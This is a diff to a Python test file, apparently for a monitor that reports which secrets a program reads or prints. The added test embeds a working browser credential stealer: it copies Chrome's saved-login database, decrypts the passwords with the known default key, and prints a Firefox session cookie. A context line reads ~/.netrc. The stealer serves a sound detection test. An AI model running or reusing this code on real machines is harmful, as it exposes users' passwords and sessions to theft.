@@ -59,6 +59,31 @@ def test_what_is_read_and_printed(runner):
     assert told(runner.run("sh", "-c", "cat ~/.netrc >&2"))["secrets"][0].startswith("printed as an error message: ")
 
 
+STEAL = """
+import glob, hashlib, os, shutil, sqlite3, subprocess, sys
+home = os.path.expanduser("~")
+shutil.copy(home + "/.config/google-chrome/Default/Login Data", "/tmp/copy")
+key = hashlib.pbkdf2_hmac("sha1", b"peanuts", b"saltysalt", 1, 16)
+for url, user, sealed in sqlite3.connect("/tmp/copy").execute("SELECT origin_url, username_value, password_value FROM logins"):
+    plain = subprocess.run(["openssl", "enc", "-d", "-aes-128-cbc", "-K", key.hex(), "-iv", "20" * 16], input=sealed[3:], capture_output=True)
+    print(url, user, plain.stdout.decode())
+cookies, = glob.glob(home + "/.mozilla/firefox/*.default-release/cookies.sqlite")
+print(sqlite3.connect(f"file:{cookies}?mode=ro", uri=True).execute("SELECT value FROM moz_cookies WHERE name = 'user_session'").fetchone()[0])
+sys.stdout.flush()
+sys.stdout.buffer.write(sealed)
+"""
+
+
+def test_whoever_opens_a_browsers_store_is_seen(runner):
+    """It copies, opens and prints what browsers remember; what was sealed is known in both forms."""
+    said, done = runner.json("python3", "-c", STEAL)
+    read = {path.rsplit("/", 1)[1]: names for path, names in secrets(said, "read").items()}
+    assert {"chrome.console_sealed", "chrome.tickets_sealed", "chrome.payroll_sealed"} == set(read["Login Data"]), read
+    assert "firefox.github_session" in read["cookies.sqlite"]
+    assert set(secrets(said, "printed")["stdout"]) == {"chrome.console_password", "chrome.tickets_password", "chrome.payroll_password",
+                                                       "firefox.github_session", "chrome.payroll_sealed"}
+
+
 def test_a_harmless_program_looks_harmless(runner):
     for command in (["true"], ["sh", "-c", "ls -la / >/dev/null; echo $HOME"], ["python3", "-c", "import json, ssl, urllib.request"]):
         done = runner.run(*command)
